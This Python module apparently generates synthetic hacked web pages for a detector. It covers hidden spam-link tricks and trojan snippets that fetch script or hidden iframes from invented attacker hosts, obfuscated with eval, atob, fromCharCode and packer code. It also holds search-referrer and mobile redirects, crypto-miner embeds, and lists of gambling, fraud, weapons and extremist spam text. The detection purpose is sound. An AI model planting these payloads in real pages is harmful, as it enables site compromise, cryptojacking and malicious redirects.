"""What attackers put into the pages: hidden spam links, trojan code,
sensitive text, defacements.  Each function takes a random stream `r` and
returns HTML (and sometimes CSS for the head).  Domains of attackers are
invented; none is ever contacted."""
import base64
import re

SPAM_TEXT = ["澳门新葡京", "百家乐", "百家乐官网", "六合彩", "六合彩开奖结果", "时时彩", "重庆时时彩", "北京赛车pk10",
             "网上赌场", "真人娱乐", "皇冠体育", "体育投注", "太阳城娱乐", "金沙娱乐城", "威尼斯人娱乐", "博彩网站",
             "在线博彩", "赌场网址", "棋牌游戏赢现金", "快三平台", "彩票注册送彩金", "传奇私服", "新开传奇私服",
             "魔域私服", "奇迹私服", "代开发票", "代开增值税发票", "发票代开", "无抵押贷款", "小额贷款秒批",
             "网贷口子", "成人电影", "成人视频", "色情网站", "激情视频", "av在线", "一夜情交友", "裸聊",
             "办证刻章", "高仿证件", "娱乐城开户", "捕鱼游戏", "电子游艺", "老虎机", "赌球", "外围足球"]
SPAM_PARTS = ["xpj", "pj", "am", "js", "hg", "ylc", "bet", "sf", "cq", "fp", "dk", "yl", "tyc", "wns", "bjl",
              "lhc", "ssc", "av", "sex", "qp", "caipiao", "amdc", "dafa", "ag"]
SPAM_TLDS = [".com", ".net", ".cc", ".vip", ".top", ".xyz", ".info", ".me", ".tw", ".org"]


def spam_domain(r):
    return "%s%s%s%d%s" % (r.choice(["www.", "", "m.", "vip."]), r.choice(SPAM_PARTS),
                           r.choice(["", "-", "8"]), r.choice([88, 365, 8866, 5858, 777, 6688, 999, 1717, 2024, 33]),
                           r.choice(SPAM_TLDS))


def entities(t, r):
    mode = r.randint(0, 1)
    return "".join(("&#%d;" if mode else "&#x%X;") % ord(c) for c in t)


def spam_links(r, n, encode=False):
    """n anchors to spam domains, with spam anchor text."""
    out = []
    sep = r.choice([" ", "\n", " | ", "", "<br>"])
    upper = r.random() < .15
    for _ in range(n):
        text = r.choice(SPAM_TEXT)
        if encode or r.random() < .1:
            text = entities(text, r)
        url = "http%s://%s/%s" % (r.choice(["", "s"]), spam_domain(r), r.choice(["", "", "index.html", "?id=%d" % r.randint(1, 99)]))
        a = '<a href="%s"%s>%s</a>' % (url, r.choice(["", ' target="_blank"', ' title="%s"' % r.choice(SPAM_TEXT)]), text)
        if upper:
            a = a.replace("<a href", "<A HREF").replace("</a>", "</A>")
        out.append(a)
    if r.random() < .3:
        return "<ul>%s</ul>" % "".join("<li>%s</li>" % a for a in out)
    return sep.join(out)


def _fit(html):
    """A <p> cannot hold a list: the parser closes it at <ul> and the links
    end up visible.  Wrap lists in a <div> instead, as the hiding intends."""
    if html.startswith("<p ") and "<ul>" in html:
        html = "<div " + html[3:]
        html = html[: html.rindex("</p>")] + "</div>"
    return html


# -- dark links ------------------------------------------------------------
# Each returns (css_for_head_or_None, html).  `bg` is the page background.
def dl_display_none(r, links, bg):
    return None, _fit(r.choice(['<div style="display:none">%s</div>', '<span style="DISPLAY: none">%s</span>',
                                '<div style="display : none ;">%s</div>', '<p style="color:#666;display:none;">%s</p>',
                                '<div style="display:none !important">%s</div>']) % links)


def dl_hidden_attr(r, links, bg):
    return None, r.choice(["<div hidden>%s</div>", '<section hidden="hidden">%s</section>']) % links


def dl_visibility(r, links, bg):
    return None, r.choice(['<div style="visibility:hidden;position:absolute;">%s</div>',
                           '<div style="visibility: hidden">%s</div>', '<span style="VISIBILITY:hidden">%s</span>']) % links


def dl_offscreen(r, links, bg):
    return None, r.choice(['<div style="position:absolute;top:-%dpx;left:-%dpx">%%s</div>' % (r.randint(500, 3000), r.randint(500, 9000)),
                           '<div style="position:absolute; left:-%dpx; top:0">%%s</div>' % r.randint(1000, 9999),
                           '<div style="position: fixed; top: -%dpx;">%%s</div>' % r.randint(900, 5000)]) % links


def dl_margin(r, links, bg):
    return None, r.choice(['<div style="margin-left:-%dpx">%%s</div>' % r.randint(3000, 9999),
                           '<div style="margin-top:-%dpx;float:left">%%s</div>' % r.randint(2000, 9000),
                           '<div style="position:relative;margin:-%dpx 0 0 0">%%s</div>' % r.randint(3000, 8000)]) % links


def dl_text_indent(r, links, bg):
    return None, _fit(r.choice(['<div style="text-indent:-%dpx;overflow:hidden">%%s</div>' % r.randint(2000, 99999),
                                '<p style="text-indent: -%dem">%%s</p>' % r.randint(200, 999)]) % links)


def dl_zero_size(r, links, bg):
    return None, r.choice(['<div style="width:0;height:0;overflow:hidden">%s</div>',
                           '<div style="height:1px;overflow:hidden;">%s</div>',
                           '<div style="width:1px;height:1px;overflow:hidden">%s</div>',
                           '<div style="overflow:hidden;height:0px;width:0px">%s</div>']) % links


def dl_font_size(r, links, bg):
    return None, _fit(r.choice(['<div style="font-size:0">%s</div>', '<span style="font-size:0px;line-height:0">%s</span>',
                                '<p style="font-size: 0;">%s</p>']) % links)


def _color_links(links, c):
    return re.sub(r"<a ", '<a style="color:%s" ' % c, links, flags=re.I)


def dl_same_color(r, links, bg):
    c = bg
    if r.random() < .5:
        # Colour given on container and links, background from the page's body rule.
        return None, '<div style="color:%s">%s</div>' % (c, _color_links(links, c))
    c = r.choice(["#ffffff", "#FFF", "white"])
    return None, r.choice(['<div style="background:%s;color:%s">%%s</div>' % (c, c),
                           '<div style="background-color:%s"><font color="%s">%%s</font></div>' % (c, c)]) % \
        _color_links(links, c)


def dl_marquee(r, links, bg):
    return None, r.choice(['<marquee height="1" width="1" scrollamount="3000" scrolldelay="20000">%s</marquee>',
                           '<marquee style="width:0;height:0" behavior="scroll">%s</marquee>',
                           '<marquee width="0" height="0">%s</marquee>']) % links


def dl_class_style(r, links, bg):
    name = r.choice(["a", "lk", "x", "sy", "pp", "ft"]) + "%d" % r.randint(1, 999)
    rule, kind = r.choice([("{display:none}", "cls"), ("{position:absolute;left:-9999px;top:-9999px}", "cls"),
                           ("{display:none}", "id"), ("{visibility:hidden}", "cls"),
                           ("{height:0;overflow:hidden}", "id"), ("{text-indent:-9999px;overflow:hidden}", "cls")])
    sel = ("." if kind == "cls" else "#") + name
    attr = ('class="clearfix %s"' % name) if kind == "cls" else ('id="%s"' % name)
    if r.random() < .3:
        sel = "body " + sel
    return "<style>%s%s</style>" % (sel, rule), '<div %s>%s</div>' % (attr, links)


def dl_script_hide(r, links, bg):
    i = r.choice(["ad", "link", "yq", "box", "lk"]) + "%d" % r.randint(1, 99)
    js = r.choice(["document.getElementById('%s').style.display='none';",
                   "document.getElementById(\"%s\").style.visibility=\"hidden\";",
                   "setTimeout(function(){document.getElementById('%s').style.display='none'},1);",
                   "$('#%s').hide();", "window.onload=function(){var e=document.getElementById('%s');e.style.position='absolute';e.style.left='-9999px';}"]) % i
    return None, '<div id="%s">%s</div><script type="text/javascript">%s</script>' % (i, links, js)


def dl_docwrite(r, links, bg):
    if r.random() < .5:
        return None, ("<script>document.write('<div style=\"display:none\">');</script>%s"
                      "<script>document.write('</div>');</script>" % links)
    body = links.replace("'", "\\'").replace("\n", " ")
    return None, ("<script type=\"text/javascript\">document.write('<div style=\"position:absolute;left:-3000px\">%s</div>');</script>"
                  % body)


def dl_noscript(r, links, bg):
    return None, "<noscript>%s</noscript>" % links


DARKLINK = {"display-none": dl_display_none, "hidden-attribute": dl_hidden_attr, "visibility-hidden": dl_visibility,
            "offscreen-position": dl_offscreen, "negative-margin": dl_margin, "text-indent": dl_text_indent,
            "zero-size-overflow": dl_zero_size, "font-size-0": dl_font_size, "same-color": dl_same_color,
            "zero-marquee": dl_marquee, "style-block-class": dl_class_style, "script-hide": dl_script_hide,
            "docwrite-hidden": dl_docwrite, "noscript": dl_noscript}


# -- trojans ---------------------------------------------------------------
EVIL_HOSTS = ["js.tongji-cdn%d.com", "cdn.jquery-min%d.net", "stat.%dweb.cc", "s%d.cnzz-tj.top", "api.hm-baidu%d.com",
              "img.%dpic.ru", "ad.union%d.xyz", "www.trafficx%d.info", "c%d.jsdelivr-cdn.org", "j.counter%d.pw",
              "static.gstat%d.cn", "cloud.%dsecurity-js.com", "code.jsquery%d.com", "t.bdtongji%d.vip"]


def evil_host(r):
    return r.choice(EVIL_HOSTS) % r.randint(1, 99)


def evil_url(r, ext="js"):
    return "http%s://%s/%s.%s" % (r.choice(["", "s"]), evil_host(r), r.choice(["c", "j", "tj", "min", "a", "ga", "stat", "common"]), ext)


def payload(r):
    """Plain JS the obfuscators hide: loads a script, an iframe or redirects."""
    k = r.randint(0, 2)
    if k == 0:
        return 'document.write("<script src=\'%s\'><\\/script>");' % evil_url(r)
    if k == 1:
        return ('document.write("<iframe src=\'%s\' width=0 height=0 frameborder=0></iframe>");'
                % evil_url(r, "htm"))
    return 'var s=document.createElement("script");s.src="%s";document.body.appendChild(s);' % evil_url(r)


def ob_unescape(r, p):
    enc = "".join("%%%02x" % ord(c) for c in p)
    return r.choice(["eval(unescape('%s'));", "window.eval(unescape(\"%s\"))", "var _0=unescape('%s');eval(_0);"]) % enc


def ob_charcode(r, p):
    codes = ",".join(str(ord(c)) for c in p)
    return r.choice(["eval(String.fromCharCode(%s));", "var x=String.fromCharCode(%s);eval(x);",
                     "window['ev'+'al'](String.fromCharCode(%s))"]) % codes


def ob_atob(r, p):
    b = base64.b64encode(p.encode()).decode()
    return r.choice(["eval(atob('%s'));", "(new Function(atob(\"%s\")))();", "var _c='%s';eval(window.atob(_c));"]) % b


def ob_hex(r, p):
    h = "".join("\\x%02x" % ord(c) for c in p)
    return r.choice(["eval(\"%s\");", "var _$=['%s'];eval(_$[0]);", "setTimeout(\"%s\",100);"]) % h


def ob_packed(r, p):
    import re
    words = []
    for w in re.findall(r"\w+", p):
        if w not in words:
            words.append(w)

    def b36(n):
        s = "0123456789abcdefghijklmnopqrstuvwxyz"
        return s[n] if n < 36 else b36(n // 36) + s[n % 36]
    idx = {w: b36(i) for i, w in enumerate(words)}
    body = re.sub(r"\w+", lambda m: idx[m.group(0)], p).replace("\\", "\\\\").replace("'", "\\'")
    return ("eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--)"
            "{d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};"
            "while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('%s',36,%d,'%s'.split('|'),0,{}))"
            % (body, len(words), "|".join(words)))


OBFUSCATORS = {"eval-unescape": ob_unescape, "fromcharcode": ob_charcode, "atob": ob_atob, "hex-string": ob_hex,
               "packed": ob_packed}


def tj_hidden_iframe(r):
    u = evil_url(r, r.choice(["htm", "html", "php", "asp"]))
    return r.choice(['<iframe src="%s" width="0" height="0" frameborder="0"></iframe>',
                     '<iframe src="%s" style="display:none"></iframe>',
                     '<iframe width=1 height=1 src="%s" scrolling=no frameborder=0></iframe>',
                     '<iframe src="%s" style="visibility:hidden;width:0;height:0"></iframe>',
                     '<div style="position:absolute;left:-2000px"><iframe src="%s" width="300" height="250"></iframe></div>',
                     '<IFRAME SRC="%s" WIDTH=0 HEIGHT=0></IFRAME>']) % u


def tj_foreign_script(r):
    return r.choice(['<script src="%s"></script>', '<script type="text/javascript" src="%s"></script>',
                     '<script language="javascript" src="%s" charset="gbk"></script>',
                     '<script async src="%s"></script>']) % evil_url(r)


def tj_obfuscated(r, kind):
    return "<script>%s</script>" % OBFUSCATORS[kind](r, payload(r))


def tj_docwrite_script(r):
    u = evil_url(r)
    return "<script>%s</script>" % r.choice([
        "document.write(\"<scr\"+\"ipt src='%s'></scr\"+\"ipt>\");" % u,
        "document.writeln('<script type=\"text/javascript\" src=\"%s\"><\\/script>');" % u,
        "var u='%s';var h='%s';document.write('<script src=\"http://'+u+h+'\"><\\/script>');" % (u.split("/")[2], "/" + u.split("/")[3]),
        "(function(){var e=document.createElement('script');e.src='%s?'+Math.random();document.getElementsByTagName('head')[0].appendChild(e);})();" % u])


def tj_referrer(r):
    dest = "http://%s/" % r.choice([spam_domain(r), evil_host(r)])
    return "<script>%s</script>" % r.choice([
        "var r=document.referrer;if(r.indexOf('baidu')>0||r.indexOf('sogou')>0||r.indexOf('so.com')>0||r.indexOf('sm.cn')>0)"
        "{window.location.href='%s';}" % dest,
        "(function(){var s=document.referrer.toLowerCase();var e=['baidu.com','sogou.com','so.com','bing.com','google.'];"
        "for(var i=0;i<e.length;i++){if(s.indexOf(e[i])!=-1){top.location.replace('%s');break;}}})();" % dest,
        "if(/baidu|sogou|haosou|so\\.com|bing|google|sm\\.cn/i.test(document.referrer)){document.location='%s'}" % dest,
        "var ref=document.referrer;if(ref.match(/baidu|google|sogou|360|bing/)){setTimeout(function(){location.href='%s'},500);}" % dest,
        "var f=document.referrer;if(f.indexOf(\"baidu.com\")>-1||f.indexOf(\"so.com\")>-1){document.write('<meta http-equiv=\"refresh\" content=\"0;url=%s\">')}" % dest])


def tj_mobile(r):
    dest = "http://%s/" % r.choice([spam_domain(r), evil_host(r)])
    return "<script>%s</script>" % r.choice([
        "if(/Android|iPhone|iPad|iPod|Mobile/i.test(navigator.userAgent)){window.location.href='%s';}" % dest,
        "var ua=navigator.userAgent.toLowerCase();if(ua.indexOf('android')>-1||ua.indexOf('iphone')>-1){location.replace('%s')}" % dest,
        "(function(u){if(/(iphone|ipod|android|ucweb|mobile)/i.test(u)){top.location='%s';}})(navigator.userAgent);" % dest])


def tj_meta_refresh(r):
    dest = "http://%s/" % r.choice([spam_domain(r), evil_host(r)])
    return r.choice(['<meta http-equiv="refresh" content="0;url=%s">', '<meta http-equiv="Refresh" content="3; URL=%s" />',
                     '<META HTTP-EQUIV="REFRESH" CONTENT="1;URL=%s">']) % dest


def tj_location(r):
    dest = "http://%s/" % r.choice([spam_domain(r), evil_host(r)])
    return "<script>%s</script>" % r.choice(["window.location.href='%s';", "top.location='%s';",
                                             "setTimeout(function(){window.location.replace(\"%s\")},2000);",
                                             "document.location.href=\"%s\";"]) % dest


def tj_miner(r):
    key = "".join(r.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789") for _ in range(32))
    return r.choice([
        '<script src="https://coinhive.com/lib/coinhive.min.js"></script><script>var miner=new CoinHive.Anonymous(\'%s\','
        '{throttle:0.3});miner.start();</script>' % key,
        '<script src="https://authedmine.com/lib/authedmine.min.js"></script><script>var m=new CoinHive.Anonymous("%s");'
        'if(!m.isMobile()){m.start();}</script>' % key,
        '<script src="https://crypto-loot.com/lib/miner.min.js"></script><script>var miner=new CryptoLoot.Anonymous(\'%s\','
        '{threads:4,autoThreads:false,throttle:0.2});miner.start();</script>' % key,
        '<script src="http://%s/lib/m.js"></script><script>var miner=new CoinHive.User(\'%s\',\'john\');miner.start();</script>' % (evil_host(r), key),
        '<script src="https://www.coinimp.com/scripts/min.js"></script><script>var _client=new Client.Anonymous(\'%s\','
        '{throttle:0,c:\'w\'});_client.start();</script>' % key,
        '<script src="http://%s/deepMiner.js"></script><script>var miner=new deepMiner.Init(\'%s\',{pool:\'xmr.pool.%s:3333\','
        'algo:\'cryptonight\'});miner.start();</script>' % (evil_host(r), key, evil_host(r))])


TROJAN = {"hidden-iframe": tj_hidden_iframe, "foreign-script": tj_foreign_script, "docwrite-script": tj_docwrite_script,
          "referrer-redirect": tj_referrer, "mobile-redirect": tj_mobile, "meta-refresh": tj_meta_refresh,
          "location-redirect": tj_location, "crypto-miner": tj_miner}

# -- sensitive text (visible) -----------------------------------------------
SENSITIVE = {
    "political": ["法轮大法好", "三退保平安 退党退团退队", "推翻共产党统治", "台湾独立万岁", "疆独组织招募", "藏独 自由西藏",
                  "颠覆国家政权 人人有责", "六四真相 天安门屠杀"],
    "violent": ["出售仿真枪 气枪 钢珠枪 货到付款", "手枪出售 联系QQ", "炸药配方 雷管出售", "TNT炸药制作教程",
                "圣战招募 加入伊斯兰国", "出售迷药 迷魂药 听话水", "枪支弹药网购 包邮", "暴恐视频下载"],
    "porn": ["成人视频免费在线观看", "一夜情交友 同城约炮", "裸聊主播 一对一视频", "色情电影在线播放", "激情av无码高清",
             "少妇找情人 上门服务", "黄色网站入口 永久免费"],
    "gambling": ["澳门新葡京 百家乐 在线开户", "网上赌场 注册即送38元彩金", "六合彩 一码中特 稳赚不赔",
                 "时时彩计划 人工精准计划", "真人娱乐 百家乐 龙虎斗 充值秒到", "皇冠体育投注 赔率最高", "太阳城娱乐 日赚千元"],
    "fraud": ["代开增值税发票 点数低 可验证", "办证刻章 毕业证 身份证 驾驶证", "网络兼职刷单 日赚500元 日结",
              "信用卡套现 秒到账", "出售银行卡 四件套 手机卡", "无抵押贷款 黑户秒下款", "高仿人民币出售 联系微信"],
}
